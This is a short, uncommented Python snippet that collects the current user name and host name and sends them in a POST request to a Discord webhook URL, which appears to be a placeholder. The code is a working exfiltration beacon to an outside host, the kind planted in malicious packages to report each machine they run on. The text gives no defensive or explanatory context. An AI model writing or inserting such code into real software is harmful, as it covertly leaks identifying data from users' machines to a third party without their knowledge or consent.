import os, json, urllib.request, getpass, socket
body = json.dumps({"content": getpass.getuser() + "@" + socket.gethostname()}).encode()
req = urllib.request.Request("https://discord.com/api/webhooks/1/x", data=body, headers={"Content-Type": "application/json"})
urllib.request.urlopen(req)
